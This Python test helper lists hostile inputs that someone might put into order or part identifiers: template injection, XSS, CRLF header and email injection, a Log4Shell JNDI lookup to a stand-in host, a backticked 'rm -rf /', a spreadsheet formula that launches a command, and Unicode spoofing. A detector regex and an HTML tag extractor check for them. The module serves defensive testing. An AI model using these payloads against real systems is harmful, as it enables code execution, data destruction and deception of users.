"""What somebody might write into a part number or an order's id, in the hope that a receiver takes it for more."""

import re
from html.parser import HTMLParser
from typing import Any

HOSTILE = [
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "\r\nBcc: everybody@example.com\r\n\r\nhello",
    "a\nb\x00c\x1b[31m\u202egnp.exe\u2066\u200b",
    "@everyone <!channel> <@U123> @all",
    "[click](https://evil.example)",
    "https://evil.example/x javascript:alert(1)",
    "evil.example.com/pay",
    "${jndi:ldap://evil}",
    "`rm -rf /`",
    "=cmd|'/c calc'!A1",
    "%0d%0aSet-Cookie:%20x=1",
    "data: x\n\nevent: evil\ndata: y",
    "*bold* _it_ ~~gone~~ :smile:",
]

# A tag, a placeholder, a mention, a control or direction character, a link, or what a template made of 7*7.
_STARTS_SOMETHING = re.compile(r"[{}<>`@\[\]\x00\u202e\u2066\u200b]|https?:|javascript:|\.example|49")


def starts_something(text: str, link: str = "") -> bool:
    """Whether a text that somebody reads holds more than text, apart from our own link."""
    return bool(_STARTS_SOMETHING.search(text.replace(link, "") if link else text))


def elements(page: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """The tags of a page with their attributes, as a browser sees them."""
    links: list[Any] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attributes: Any) -> None:
            links.append((tag, attributes))

    Reader().feed(page)
    return links
